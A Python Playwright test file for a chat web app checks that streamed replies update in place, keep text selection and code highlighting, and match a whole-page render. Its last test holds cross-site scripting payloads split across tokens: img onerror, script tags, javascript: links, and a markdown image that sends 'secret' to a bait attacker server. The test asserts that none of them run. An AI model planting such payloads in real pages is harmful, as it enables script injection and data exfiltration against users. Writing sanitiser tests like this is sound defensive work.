"""A streaming reply is updated in place: what did not change keeps its nodes.

A reader can select and copy text while the reply still grows, a finished code block keeps its
highlighting and copy button, and the reply shown mid-stream and at its end is exactly what a
whole render of the text gives. Untrusted HTML split across tokens never runs.
"""

import pytest
from playwright.sync_api import Page, expect
from playwright.sync_api import TimeoutError as PlaywrightTimeout

from tests.browser.conftest import WAIT_MS
from tests.browser.pages import (
    assert_nothing_dangerous_in,
    gated_stream,
    last_reply,
    open_chat,
    open_new_chat,
    reply_body,
    send_message,
    wait_until_final,
)
from tests.stub import Script, openai_chunk, openai_usage, sse

pytestmark = pytest.mark.browser

FIRST = "The first paragraph, finished early."

# Each part is its own frame (the test waits for it): later parts change earlier blocks.
TRICKY_PARTS = [
    "Intro with a [reference link][ref] and **bold**.\n\n",
    "A title line\n",
    "===\n\n",  # the paragraph above becomes a heading
    "- one\n- two\n\n",
    "- three, after a blank line\n\n",  # the list, no longer the last block, grows
    "```python\ndef f():\n",
    "    return 1\n```\n\n",
    "| a | b |\n",
    "|---|---|\n| 1 | 2 |\n\n",  # the line above becomes a table's head
    "[ref]: https://example.com/ref\n\n",  # defines the first paragraph's link
    "Last *words*.",
]

# Whole-render HTML of `text` (the path a reloaded page takes), beside the live reply's body.
WHOLE_RENDER = """text => {
    const whole = document.createElement("div");
    window.chatsiteRender.renderMarkdown(whole, text);
    return whole.innerHTML;
}"""
MATCHES_WHOLE_RENDER = f"""text => {{
    const body = [...document.querySelectorAll(".message.assistant .body")].pop();
    return Boolean(body) && body.innerHTML === ({WHOLE_RENDER})(text);
}}"""


def wait_for_whole_render(page: Page, text: str) -> None:
    """Wait until the live reply shows what a whole render of `text` shows; else say how not."""
    try:
        page.wait_for_function(MATCHES_WHOLE_RENDER, arg=text, timeout=WAIT_MS)
    except PlaywrightTimeout:
        whole = page.evaluate(WHOLE_RENDER, text)
        assert reply_body(page).inner_html() == whole, f"the live render differs for {text!r}"
        raise


def mark(page: Page, selector: str) -> None:
    """Tag the live reply's node with a JS property: only that very node keeps it."""
    reply_body(page).locator(selector).first.evaluate("node => { node.keptMark = 'kept'; }")


def still_marked(page: Page, selector: str) -> bool:
    return reply_body(page).locator(selector).first.evaluate("node => node.keptMark === 'kept'")


def selection(page: Page) -> str:
    return page.evaluate("window.getSelection().toString()")


def test_text_selected_in_a_streaming_reply_stays_selected(browsing, stub, alice, new_gate):
    first, second = new_gate(), new_gate()
    parts = [f"{FIRST}\n\nThe second", " paragraph grows", " and grows.\n\nA third one."]
    stub.queue(gated_stream(parts, [first, second, None]))
    page = browsing.logged_in(alice)
    open_new_chat(page)
    send_message(page, "Write three paragraphs")

    body = reply_body(page)
    expect(body.locator("p")).to_have_text([FIRST, "The second"])
    body.locator("p").first.select_text()
    assert selection(page) == FIRST
    mark(page, "p")
    first.open()
    expect(body.locator("p").nth(1)).to_have_text("The second paragraph grows")
    assert selection(page) == FIRST, "more tokens took the selection away"
    assert still_marked(page, "p"), "the finished paragraph was rendered again"

    second.open()
    wait_until_final(page)
    expect(body.locator("p")).to_have_text(
        [FIRST, "The second paragraph grows and grows.", "A third one."]
    )
    assert selection(page) == FIRST, "the reply's end took the selection away"
    assert still_marked(page, "p")


def test_a_finished_code_block_keeps_its_highlighting_and_copy_button_while_text_streams(
    browsing, stub, alice, new_gate
):
    gate = new_gate()
    parts = ["```python\nprint('hi')\n```\n\nAfter the code", " more words arrive."]
    stub.queue(gated_stream(parts, [gate, None]))
    page = browsing.logged_in(alice)
    open_new_chat(page)
    send_message(page, "Some code, then words")

    body = reply_body(page)
    expect(body.locator("p")).to_have_text("After the code")
    expect(body.locator(".code-block .hljs-built_in")).to_have_text("print")
    mark(page, ".code-block")
    gate.open()
    expect(body.locator("p")).to_have_text("After the code more words arrive.")
    assert still_marked(page, ".code-block"), "the finished code block was rendered again"
    wait_until_final(page)
    assert still_marked(page, ".code-block")
    expect(body.get_by_role("button", name="Copy code")).to_have_count(1)


def test_streaming_reasoning_stays_selected_and_folds_away_when_the_reply_ends(
    browsing, stub, alice, new_gate
):
    gate, last = new_gate(), new_gate()
    steps = [openai_chunk(reasoning="Thinking it over."), openai_chunk("The answer"), gate,
             openai_chunk(reasoning=" Still thinking."), openai_chunk(" is 42."), last,
             openai_chunk(finish_reason="stop"), openai_usage(9, 5), sse("[DONE]")]  # fmt: skip
    stub.queue(Script(steps=steps))
    page = browsing.logged_in(alice)
    open_new_chat(page)
    send_message(page, "Think aloud")

    reasoning = last_reply(page).locator("details.reasoning")
    expect(reasoning).to_have_attribute("open", "")  # open while the model thinks
    expect(reply_body(page)).to_have_text("The answer")
    # As a reader's drag does: from one character to another in the text shown so far.
    reasoning.locator(".plain").evaluate(
        "node => getSelection().setBaseAndExtent(node.firstChild, 0, node.firstChild, 8)"
    )
    gate.open()
    expect(reasoning.locator(".plain")).to_have_text("Thinking it over. Still thinking.")
    expect(reply_body(page)).to_have_text("The answer is 42.")
    assert selection(page) == "Thinking", "more reasoning took the selection away"
    last.open()
    wait_until_final(page)
    expect(reasoning).not_to_have_attribute("open", "")  # folded away, as a whole render does
    expect(reasoning.locator("summary")).to_have_text("Reasoning")
    expect(reply_body(page)).to_have_text("The answer is 42.")


def test_a_streaming_reply_always_shows_what_a_whole_render_of_its_text_shows(
    browsing, stub, alice, new_gate
):
    gates = [new_gate() for _ in TRICKY_PARTS[:-1]] + [None]
    stub.queue(gated_stream(TRICKY_PARTS, gates))
    page = browsing.logged_in(alice)
    open_new_chat(page)
    send_message(page, "Markdown that changes its mind")

    # Mid-stream: after each part, the live body becomes the whole render of the text so far.
    for count, gate in enumerate(gates, start=1):
        wait_for_whole_render(page, "".join(TRICKY_PARTS[:count]))
        if gate is not None:
            gate.open()
    wait_until_final(page)
    text = "".join(TRICKY_PARTS)
    wait_for_whole_render(page, text)
    body = reply_body(page)
    expect(body.locator("h1")).to_have_text("A title line")
    expect(body.get_by_role("link", name="reference link")).to_have_attribute(
        "href", "https://example.com/ref"
    )
    live_html = body.inner_html()

    open_chat(page, page.url)  # reloaded: the stored reply, rendered whole
    wait_until_final(page)
    assert reply_body(page).inner_html() == live_html
    assert last_reply(page).locator(".status").inner_text() == "Complete"


def test_untrusted_html_split_across_tokens_never_runs_or_reaches_the_page(
    browsing, stub, alice, new_gate, bait
):
    parts = [
        "Start. <img src=x one",
        "rror=alert('split-img')> after\n\n<scr",
        "ipt>alert('split-script')</script>\n\n[a link](java",
        "script:alert('split-link'))\n\n[a ref][evil]\n\n",
        f"[evil]: javascript:alert('split-ref')\n\n![secret]({bait.url}/pix",
        "el?q=secret) end.",
    ]
    gates = [new_gate() for _ in parts[:-1]] + [None]
    stub.queue(gated_stream(parts, gates))
    page = browsing.logged_in(alice)
    open_new_chat(page)
    send_message(page, "Try to run something")

    body = reply_body(page)
    for count, gate in enumerate(gates, start=1):
        wait_for_whole_render(page, "".join(parts[:count]))
        assert_nothing_dangerous_in(page)
        if gate is not None:
            gate.open()
    wait_until_final(page)
    assert_nothing_dangerous_in(page)
    expect(body).to_contain_text("<img src=x onerror=alert('split-img')> after")
    expect(body).to_contain_text("<script>alert('split-script')</script>")
    expect(body.get_by_text("[image not loaded: secret]")).to_be_visible()
    expect(body.locator("img")).to_have_count(0)
    for link in ("a link", "a ref"):
        body.get_by_text(link).click()  # javascript: hrefs were dropped: nothing happens
    watch = browsing.watch_of(page)
    assert watch.dialogs == [], "a payload ran script"
    assert bait.paths == [], "the attacker's server was asked for something"
